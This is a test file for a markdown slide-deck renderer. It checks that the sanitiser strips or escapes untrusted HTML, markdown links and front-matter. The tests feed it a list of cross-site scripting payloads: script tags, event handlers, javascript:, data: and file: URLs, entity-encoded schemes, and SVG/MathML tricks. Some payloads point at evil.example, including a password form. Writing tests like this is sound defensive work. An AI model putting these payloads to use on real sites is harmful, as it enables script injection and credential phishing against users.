import { describe, expect, it } from 'vitest';
import { briefWith, renderBriefText, slideBody, templates } from './pure-deck.js';
import { safeUrl } from '../src/kernel/safe-url.js';

async function body(markdown: string): Promise<string> {
  return slideBody(renderBriefText(briefWith(markdown), await templates()).html);
}

/** Nothing that can run code or load from elsewhere may be left in the slide. */
function expectInert(html: string): void {
  expect(html).not.toMatch(/<script|<iframe|<object|<embed|<form|<style|<meta|<base|<link|<svg|<math|<textarea/i);
  // Inside tags only: the same words shown as escaped text are harmless.
  const tags = html.match(/<[a-z][^>]*>/gi) ?? [];
  for (const tag of tags) {
    expect(tag).not.toMatch(/\son\w+\s*=/i);
    expect(tag).not.toMatch(/(?:href|src)\s*=\s*"?\s*(?:javascript|vbscript|data|file):/i);
    expect(tag).not.toMatch(/&#0*106;?|&#x0*6a;?|alert\(/i);
  }
}

const hostile: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script with odd case': '<ScRiPt>alert(1)</sCrIpT>',
  'event handler': '<span class="x" onclick="alert(1)">hi</span> <img src="a.png" onerror="alert(1)">',
  'javascript: link': '<a href="javascript:alert(1)">x</a>',
  'entity-encoded javascript:': '<a href="&#106;avascript:alert(1)">x</a> <a href="&#x6A;avascript&colon;alert(1)">y</a>',
  'tab inside the scheme': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'vbscript: link': '<a href="vbscript:msgbox(1)">x</a>',
  'data: link and image': '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a> <img src="data:image/svg+xml,<svg onload=alert(1)>">',
  iframe: '<iframe src="https://evil.example/"></iframe>',
  'object and embed': '<object data="x.swf"></object><embed src="x.swf">',
  form: '<form action="https://evil.example/"><input name="password"><button>Send</button></form>',
  style: '<style>.reveal { display: none }</style><span style="position:fixed">x</span>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  base: '<base href="https://evil.example/">',
  link: '<link rel="stylesheet" href="https://evil.example/x.css">',
  'svg tricks': '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><svg onload="alert(1)"/>',
  mathml: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  'markdown javascript: link': '[click](javascript:alert(1)) [twice](JaVaScRiPt:alert(1))',
  'markdown entity link': '[click](&#106;avascript:alert(1))',
  'markdown autolink': '<javascript:alert(1)>',
  'markdown data: link': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'markdown javascript: image': '![pic](javascript:alert(1))',
  'markdown reference link': '[x][r]\n\n[r]: javascript:alert(1)',
  'unclosed tag': '<a href="javascript:alert(1)" <script>alert(1)',
  'comment and CDATA': '<!-- <script>alert(1)</script> --><![CDATA[<script>alert(1)</script>]]>',
};

describe('untrusted markup in a brief', () => {
  for (const [name, markdown] of Object.entries(hostile)) {
    it(`neutralises ${name}`, async () => {
      expectInert(await body(`Before.\n\n${markdown}\n\nAfter ${markdown} inline.`));
    });
  }

  it('keeps the documented safe subset, inline and as blocks', async () => {
    const html = await body('H<sub>2</sub>O and E = mc<sup>2</sup>; press <kbd>Ctrl</kbd>+<kbd>P</kbd>.<br>Next <span class="highlight">line</span> <abbr title="Self-Defense Forces">SDF</abbr>\n\n<div class="callout">A block</div>');
    expect(html).toContain('H<sub>2</sub>O');
    expect(html).toContain('mc<sup>2</sup>');
    expect(html).toContain('<kbd>Ctrl</kbd>+<kbd>P</kbd>');
    expect(html).toMatch(/<br \/>|<br>/);
    expect(html).toContain('<span class="highlight">line</span>');
    expect(html).toContain('<abbr title="Self-Defense Forces">SDF</abbr>');
    expect(html).toContain('<div class="callout">A block</div>');
  });

  it('keeps what markdown itself makes: links, tables, code, task boxes', async () => {
    const html = await body('[RAND](https://www.rand.org/) [mail](mailto:a@b.org) [top](#/s)\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n`code`\n\n- [x] done');
    expect(html).toContain('<a href="https://www.rand.org/">RAND</a>');
    expect(html).toContain('<a href="mailto:a@b.org">mail</a>');
    expect(html).toContain('<a href="#/s">top</a>');
    expect(html).toMatch(/<td align="right">2<\/td>/);
    expect(html).toContain('<code>code</code>');
    expect(html).toMatch(/<input[^>]*type="checkbox"/);
  });

  it('drops a raw <input> that is not a task-list box, and forged bd- classes', async () => {
    const html = await body('<input type="text" name="q"> <span class="bd-marking-banner other">SECRET</span>');
    expect(html).not.toContain('type="text"');
    expect(html).not.toContain('bd-marking-banner');
    expect(html).toContain('<span class="other">SECRET</span>');
  });
});

describe('front-matter strings are text, never markup', () => {
  it('escapes a hostile title, author and subtitle everywhere', async () => {
    const fm = 'title: "<img src=x onerror=alert(1)></script>"\nsubtitle: "</title><script>alert(2)</script>"\nauthor: "\\" onmouseover=\\"alert(3)"';
    const { html } = renderBriefText(briefWith('Body.', fm), await templates());
    expect(html).not.toMatch(/<img src=x/);
    expect(html).not.toMatch(/<script>alert/);
    expect(html).not.toMatch(/"\s*onmouseover="/);
    expect(html).toContain('&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;&lt;/script&gt;');
    // The config script element holds JSON only: no way out of it.
    const config = /<script type="application\/json" id="briefdeck-config">([\s\S]*?)<\/script>/.exec(html)?.[1] ?? '';
    expect(() => JSON.parse(config)).not.toThrow();
    expect(config).not.toContain('<');
  });
});

describe('safeUrl', () => {
  it.each([
    'javascript:alert(1)', ' javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'java\nscript:alert(1)', '&#106;avascript:x', '&#0000106avascript:x',
    'javascript&colon;x', 'vbscript:x', 'data:text/html,x', 'file:///etc/passwd', '//evil.example/x', '\\\\evil\\x',
  ])('refuses %s', (url) => expect(safeUrl(url)).toBeUndefined());

  it.each(['https://example.org/a?b=c', 'http://x.org', 'mailto:a@b.org', '#/sources', 'images/map.png', '../shared/a.png', 'a:b.png'.replace(':', '-')])(
    'allows %s',
    (url) => expect(safeUrl(url)).toBe(url),
  );
});

describe('templates print raw HTML only where briefdeck made it', () => {
  it('every {{{triple brace}}} in the built-in templates is a …Html value or the JSON config', async () => {
    const { readdir, readFile } = await import('node:fs/promises');
    const { join } = await import('node:path');
    const { builtInTemplates } = await import('../src/load/template-set.js');
    const files = (await readdir(builtInTemplates, { recursive: true })).filter((f) => f.endsWith('.hbs'));
    expect(files.length).toBeGreaterThan(3);
    for (const file of files) {
      const text = await readFile(join(builtInTemplates, file), 'utf8');
      for (const [, name] of text.matchAll(/\{\{\{\s*([^}\s]+)[^}]*\}\}\}/g)) {
        expect(`${file}: ${name}`).toMatch(/: (?:[\w.]*[hH]tml|config)$/);
      }
    }
  });
});

describe('the author hears about what was removed', () => {
  it('warns at the line for removed tags, attributes and script URLs, and is quiet about the safe subset', async () => {
    const body = [
      'Fine: H<sub>2</sub>O, <kbd>Ctrl</kbd>, <span class="x">s</span>, [RAND](https://www.rand.org/).',
      '',
      '<script>alert(1)</script>',
      '',
      'A <span onclick="alert(1)">click</span> and <a href="jav&#x09;ascript:x">tab</a>.',
      '',
      '[click](javascript:alert(1)) ![pic](data:image/png;base64,AAAA)',
      '',
      '<iframe src="https://evil.example/"></iframe>',
    ].join('\n');
    const { problems } = renderBriefText(briefWith(body), await templates());
    const warnings = problems.warnings.map((w) => `${w.file}:${w.line}: ${w.message}`);
    // The body starts on line 7 of the brief (front matter, blank, heading, blank).
    expect(warnings).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^brief\.md:9: <script> is removed/),
        expect.stringMatching(/^brief\.md:11: attribute "onclick" on <span> is removed/),
        expect.stringMatching(/^brief\.md:11: href="jav&#x09;ascript:x" on <a> is removed/),
        expect.stringMatching(/^brief\.md:13: link to "javascript:alert\(1\)" is shown as plain text/),
        expect.stringMatching(/^brief\.md:13: image "data:image\/png;base64,AAAA" is not shown/),
        expect.stringMatching(/^brief\.md:15: remote resource https:\/\/evil\.example\/ will not show/),
        expect.stringMatching(/^brief\.md:15: <iframe> is removed/),
      ]),
    );
    expect(warnings.filter((w) => w.startsWith('brief.md:7:'))).toEqual([]);
  });
});
